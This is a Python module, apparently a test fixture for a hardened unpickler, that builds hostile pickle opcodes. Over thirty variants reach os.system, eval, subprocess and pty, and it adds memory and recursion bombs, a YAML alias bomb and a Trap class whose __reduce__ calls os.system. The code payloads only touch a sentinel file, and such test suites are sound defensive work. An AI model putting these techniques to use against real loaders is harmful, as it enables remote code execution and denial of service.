"""Pickle opcodes that run code, crash or exhaust an ordinary unpickler; each leaves one object on the stack."""

import os
import struct
from collections.abc import Callable
from functools import cache
from typing import Any

# A YAML text of some hundred bytes that its aliases expand to a hundred million values
ALIAS_BOMB = "a0: &a0 [0]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 9)
)


def change(path: str, value: Any) -> Callable[[Any], Any]:
    """Return a function that sets one value in nested dicts and lists, such as `optimizer/param_groups/0`."""

    def apply(contents: Any) -> Any:
        node = contents
        *parents, leaf = (int(key) if key.isdigit() else key for key in path.split("/"))
        for key in parents:
            node = node[key]
        node[leaf] = value
        return contents

    return apply


def text(value: str) -> bytes:
    """A text without a place in the memo."""
    return b"V" + value.encode("raw-unicode-escape").replace(b"\n", b"\\u000a") + b"\n"


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


@cache
def hostile_pickles(sentinel: str) -> dict[str, bytes]:
    """Name of an attack -> opcodes. Those that run code write the file `sentinel`."""
    shell = text(f"touch '{sentinel}'")
    python = text(f"open({sentinel!r}, 'w').close()")
    imported = call(name("builtins", "__import__"), text("os"))
    return _code(shell, python, imported, sentinel) | bombs()


def _code(shell: bytes, python: bytes, imported: bytes, sentinel: str) -> dict[str, bytes]:
    getter, system = name("builtins", "getattr"), name("os", "system")
    words = b"(" + text("touch") + text(sentinel) + b"l"
    return {
        "os.system": call(name("os", "system"), shell),
        "posix.system": call(name("posix", "system"), shell),
        "builtins.eval": call(name("builtins", "eval"), python),
        "builtins.exec": call(name("builtins", "exec"), python),
        "__builtin__.eval": call(name("__builtin__", "eval"), python),
        "subprocess": call(name("subprocess", "Popen"), words),
        "subprocess by NEWOBJ": name("subprocess", "Popen") + b"(" + words + b"t\x81",
        "os.system by INST": b"(" + shell + b"ios\nsystem\n",
        "os.system by OBJ": b"(" + name("os", "system") + shell + b"o",
        "os.system by STACK_GLOBAL": call(text("os") + text("system") + b"\x93", shell),
        "getattr chain": call(call(getter, imported, text("system")), shell),
        "operator.attrgetter": call(call(call(name("operator", "attrgetter"), text("system")), imported), shell),
        "operator.methodcaller": call(call(name("operator", "methodcaller"), text("system"), shell), imported),
        "functools.partial": call(call(name("functools", "partial"), name("os", "system"), shell)),
        "builtins.map": call(name("builtins", "list"), call(name("builtins", "map"), system, b"(" + shell + b"l")),
        "torch.hub": call(name("torch.hub", "load"), text("/tmp"), text("x")),
        "torch.load": call(name("torch", "load"), text("/dev/zero")),
        "numpy.load": call(name("numpy", "load"), text(sentinel)),
        "runpy": call(name("runpy", "_run_code"), python, b"}"),
        "codeop": call(name("code", "interact")),
        "pty": call(name("pty", "spawn"), words),
        "io.open": call(name("io", "open"), text(sentinel), text("w")),
        "pathlib touch": call(name("pathlib", "Path.touch"), call(name("pathlib", "Path"), text(sentinel))),
        "dotted torch": call(name("torch", "os.system"), shell),
        "dotted numpy": call(name("numpy.core.multiarray", "os.system"), shell),
        "torch by another way": call(name("torch._utils", "sys.modules"), shell),
        "BUILD of a function": name("torch._utils", "_rebuild_tensor_v2")
        + b"N}" + text("__call__") + system + b"s\x86b",
        "BUILD of a class": name("numpy", "dtype") + b"N}" + text("numpy") + name("os", "system") + b"s\x86b",
        "setitem of a module": name("os", "environ") + text("X") + shell + b"s",
        "persistent id": call(name("os", "system"), shell) + b"Q",
        "_rebuild_from_type": call(
            name("torch._tensor", "_rebuild_from_type_v2"), system, system, b"(" + shell + b"t", b"}"
        ),
        "dtype of an object": call(name("numpy", "dtype"), call(name("os", "system"), shell)),
        "OrderedDict of calls": call(
            name("collections", "OrderedDict"), b"((" + text("k") + call(system, shell) + b"tt"
        ),
    }  # fmt: skip


def bombs() -> dict[str, bytes]:
    """Those that crash or exhaust. Where the limits allow, a reader may read past them."""
    nested = b")" + b"\x85" * 120_000
    collide = b"}(" + b"".join(
        b"\x8a\x10" + (i * ((1 << 61) - 1)).to_bytes(16, "little", signed=True) + b"N" for i in range(1, 12_000)
    ) + b"u"  # fmt: skip
    twice = b"]" + b"".join(b"q" + bytes([i]) + b"h" + bytes([i]) + b"\x86" for i in range(60))
    return {
        "memo index": b"N" + b"r" + struct.pack("<I", 0xFFFFFFF0),
        "memo index in text": b"N" + b"p99999999999999\n",
        "nested key": b"}" + nested + b"Ns",
        "doubled key": b"}" + twice + b"Ns",
        "nested list": b"]" + b"]" * 50_000 + b"a" * 50_000,
        "nested value": nested,
        "colliding keys": collide,
        "huge text": b"\x8d" + struct.pack("<Q", 1 << 50) + b"x",
        "huge bytes": b"\x8e" + struct.pack("<Q", (1 << 63) - 1) + b"x",
        "huge bytearray": b"\x96" + struct.pack("<Q", 1 << 40) + b"x",
        "negative text": b"T" + struct.pack("<i", -5) + b"x",
        "huge integer": b"\x8b" + struct.pack("<i", 100_000) + b"\xff" * 100_000,
        "long decimal": b"L" + b"9" * 60_000 + b"L\n",
        "extension": b"\x82\x01",
        "out of band": b"\x97",
        "many objects": b"(" + b"}" * 50_000 + b"l",
        "many marks": b"(" * 20_000 + b"t" * 20_000,
        "empty stack": b"0000000",
        "huge frame": b"\x95" + struct.pack("<Q", 1 << 60) + b"N",
        "storage of nothing": b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu")
        + b"\x8a\x08" + struct.pack("<q", 1 << 60) + b"tQ",
        "shared array data": _shared_array(),
        "long line": b"I" + b"1" * 100_000 + b"\n",
    }  # fmt: skip


def _shared_array() -> bytes:
    """One megabyte as the data of thousands of arrays."""
    make = call(
        name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"K\x00\x85", b"C\x01b"
    )
    kind = call(name("numpy", "dtype"), text("u1"), b"K\x00", b"K\x01")
    data = b"B" + struct.pack("<I", 1 << 20) + bytes(1 << 20)
    first = b"(K\x01J" + struct.pack("<i", 1 << 20) + b"\x85" + kind + b"\x89" + data + b"r\xf0\xff\x00\x00tb"
    more = b"(K\x01J" + struct.pack("<i", 1 << 20) + b"\x85" + kind + b"\x89" + b"j\xf0\xff\x00\x00tb"
    return b"(" + make + first + (make + more) * 1500 + b"l"


class Trap:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return os.system, (self.command,)
